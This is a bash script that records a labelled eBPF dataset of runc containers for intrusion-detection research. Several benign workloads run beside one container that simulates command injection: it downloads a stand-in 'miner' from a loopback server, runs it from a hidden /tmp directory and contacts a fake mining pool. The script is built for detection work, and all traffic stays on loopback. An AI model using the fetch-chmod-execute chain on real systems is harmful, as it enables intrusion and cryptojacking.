#!/usr/bin/env bash
# Regenerates datasets/demo: a real capture of real runc containers on this machine — several
# benign workloads and one web container that suffers command injection and runs a "miner".
# All network traffic stays on 127.0.0.1. Needs root. Stopgap until the scenario lab exists.
#
#   scripts/make-demo.sh [--seconds 40] [--out datasets/demo]
set -euo pipefail
cd "$(dirname "$0")/.."
seconds=40 out=datasets/demo
while [ $# -gt 0 ]; do
  case "$1" in
    --seconds) seconds=$2; shift 2 ;;
    --out) out=$2; shift 2 ;;
    *) echo "unknown argument $1" >&2; exit 2 ;;
  esac
done
[ "$(id -u)" -eq 0 ] || { echo "make-demo.sh needs root (eBPF, runc)" >&2; exit 1; }
bash scripts/setup.sh
cargo build --release -p capture >&2

work=$(mktemp -d /tmp/needle-demo.XXXXXX)
ids=() pids=()
cleanup() {
  for id in "${ids[@]}"; do runc kill "$id" KILL >/dev/null 2>&1 || true; runc delete -f "$id" >/dev/null 2>&1 || true; done
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
  rm -rf "$work"
}
trap cleanup EXIT INT TERM

rand_id() { head -c 32 /dev/urandom | od -An -tx1 | tr -d ' \n'; }

# A busybox rootfs: the binary, applet symlinks, and the files busybox needs.
rootfs() {
  local r=$1
  mkdir -p "$r/bin" "$r/etc" "$r/tmp" "$r/var/www" "$r/data" "$r/proc" "$r/dev" "$r/sys"
  cp /bin/busybox "$r/bin/busybox"
  for a in sh true sleep cat wget chmod tar gzip sha256sum ls grep sort wc httpd nc echo date head mkdir rm cp find seq md5sum uname hostname id ps; do
    ln -sf busybox "$r/bin/$a"
  done
  printf 'root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33::/var/www:/bin/sh\nnobody:x:65534:65534::/:/bin/false\n' > "$r/etc/passwd"
  printf 'root:x:0:\nwww-data:x:33:\nnobody:x:65534:\n' > "$r/etc/group"
  echo '<h1>shop</h1>' > "$r/var/www/index.html"
}

# prepare NAME CGROUP_STYLE POD NAMESPACE IMAGE SCRIPT — builds the bundle; nothing runs yet,
# so the host activity of building bundles stays out of the recording.
prepare() {
  local name=$1 style=$2 pod=$3 ns=$4 image=$5 script=$6 id bundle cgpath
  id=$(rand_id); bundle="$work/$name"
  mkdir -p "$bundle"; rootfs "$bundle/rootfs"
  case "$style" in
    docker) cgpath="system.slice:docker:$id" ;;
    containerd) cgpath="kubepods-besteffort-pod$(rand_id | head -c 8).slice:cri-containerd:$id" ;;
    crio) cgpath="kubepods-burstable-pod$(rand_id | head -c 8).slice:crio:$id" ;;
  esac
  (cd "$bundle" && runc spec)
  python3 - "$bundle/config.json" "$cgpath" "$pod" "$ns" "$name" "$image" "$script" <<'PY'
import json, sys
path, cg, pod, ns, name, image, script = sys.argv[1:]
c = json.load(open(path))
c["process"]["terminal"] = False
c["process"]["args"] = ["/bin/sh", "-c", script]
c["root"]["readonly"] = False
c["linux"]["cgroupsPath"] = cg
c["linux"]["namespaces"] = [n for n in c["linux"]["namespaces"] if n["type"] != "network"]
c["hostname"] = name
c["annotations"] = {
    "io.kubernetes.pod.name": pod,
    "io.kubernetes.pod.namespace": ns,
    "io.kubernetes.container.name": name,
    "io.kubernetes.cri.image-name": image,
}
json.dump(c, open(path, "w"), indent=1)
PY
  printf '%s,%s\n' "$id" "$name" >> "$work/containers.csv"
}

launch() { # starts every prepared container
  while IFS=, read -r id name; do
    (cd "$work/$name" && runc run -d "$id" >/dev/null 2>&1 </dev/null)
    ids+=("$id")
  done < "$work/containers.csv"
}

# The attacker's server: the payload and a fake mining pool, on loopback only.
mkdir -p "$work/www"
echo "build artifact" > "$work/www/artifact"
printf '#!/bin/sh\n# stand-in for a downloaded miner: connects to the pool and burns CPU\n(echo "{\\"id\\":1,\\"method\\":\\"mining.subscribe\\",\\"params\\":[\\"xmrig/6.21\\"]}"; /bin/sleep 3) | /bin/nc 127.0.0.1 13333\ni=0; while [ $i -lt 200000 ]; do i=$((i+1)); done\n' > "$work/www/kworker"
busybox httpd -f -p 127.0.0.1:18080 -h "$work/www" & pids+=($!)
# The fake pool: accepts on 127.0.0.1:13333, reads what the miner says, for at most 120 s.
python3 - <<'PY' & pids+=($!)
import socket, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 13333)); s.listen(); s.settimeout(1.0)
end = time.time() + 120
while time.time() < end:
    try:
        c, _ = s.accept()
        c.settimeout(2.0)
        try:
            c.recv(4096)
            c.sendall(b'{"id":1,"result":[["mining.notify","ae6812eb4cd7735a302a8a9dd95cf71f"],"08000002",4],"error":null}\n')
        except OSError:
            pass
        c.close()
    except socket.timeout:
        pass
PY


n=$((seconds - 8))
prepare web-1   docker     shop-web-7d9f-abcde   shop    registry.local/shop/web:2.3   "/bin/httpd -f -p 127.0.0.1:18081 -h /var/www & for i in \$(/bin/seq 1 $n); do /bin/sleep 1; /bin/date > /dev/null; done"
prepare web-2   containerd shop-web-7d9f-fghij   shop    registry.local/shop/web:2.3   "/bin/httpd -f -p 127.0.0.1:18082 -h /var/www & for i in \$(/bin/seq 1 $n); do /bin/sleep 1; done"
prepare client  containerd loadgen-5c6b-kkkkk    shop    registry.local/tools/curl:8    "for i in \$(/bin/seq 1 $n); do /bin/wget -q -O /dev/null http://127.0.0.1:18081/; /bin/wget -q -O /dev/null http://127.0.0.1:18082/; /bin/sleep 1; done"
prepare backup  crio       backup-28810-xyz12    ops     registry.local/ops/backup:1.0  "for i in \$(/bin/seq 1 $((n / 4))); do /bin/mkdir -p /data/b; /bin/cp /etc/passwd /data/b/p\$i; /bin/tar -cf /tmp/b.tar /data/b; /bin/gzip -f /tmp/b.tar; /bin/sha256sum /tmp/b.tar.gz > /dev/null; /bin/wget -q -O /dev/null --post-file=/tmp/b.tar.gz http://127.0.0.1:18080/upload || true; /bin/sleep 4; done"
prepare ci      docker     ci-runner-0            ci      registry.local/ci/runner:5     "for i in \$(/bin/seq 1 $((n / 2))); do /bin/wget -q -O /tmp/artifact http://127.0.0.1:18080/artifact || true; /bin/ls /bin > /tmp/l; /bin/grep sh /tmp/l > /dev/null; /bin/sort /tmp/l | /bin/wc -l > /dev/null; /bin/uname -a > /dev/null; /bin/sleep 2; done"
prepare health  crio       health-checker-9q8w7  monitoring registry.local/mon/probe:3  "for i in \$(/bin/seq 1 $n); do /bin/wget -q -O /dev/null http://127.0.0.1:18081/ || true; /bin/sleep 1; done"
prepare sidecar containerd shop-web-7d9f-abcde   shop    registry.local/mesh/proxy:1.9  "/bin/sleep $n"
# The needle: the same web image, but its request handler runs a shell command an attacker
# injected — download, chmod +x, run from a hidden directory in /tmp, connect to the "pool".
prepare web-3   docker     shop-web-7d9f-lmnop   shop    registry.local/shop/web:2.3   "/bin/httpd -f -p 127.0.0.1:18083 -h /var/www & /bin/sleep 8; /bin/sh -c '/bin/mkdir -p /tmp/.x && /bin/wget -q -O /tmp/.x/kworker http://127.0.0.1:18080/kworker && /bin/chmod +x /tmp/.x/kworker && /tmp/.x/kworker -o pool.minexmr.com:4444 -u 4A1b2c3d'; for i in \$(/bin/seq 1 $((n - 8))); do /bin/sleep 1; done"

rm -rf "$out"; mkdir -p "$out"
traces="$out/traces"
target/release/capture --duration "${seconds}s" --output "$traces" > "$work/summary" 2> "$work/capture.err" & cap=$!
for _ in $(seq 1 300); do grep -q "recording with" "$work/capture.err" 2>/dev/null && break; sleep 0.1; done
launch

wait "$cap" || true
cat "$work/summary"
# Labels for the demo (the attack container is known by construction).
{
  echo "workload,name,label,scenario"
  while IFS=, read -r id name; do
    case "$name" in web-3) echo "$id,$name,attack,command-injection-miner" ;; *) echo "$id,$name,normal,$name" ;; esac
  done < "$work/containers.csv"
} > "$out/labels.csv"
chmod 644 "$traces"/*.parquet "$out/labels.csv"
chmod 755 "$traces"
du -sh "$out"
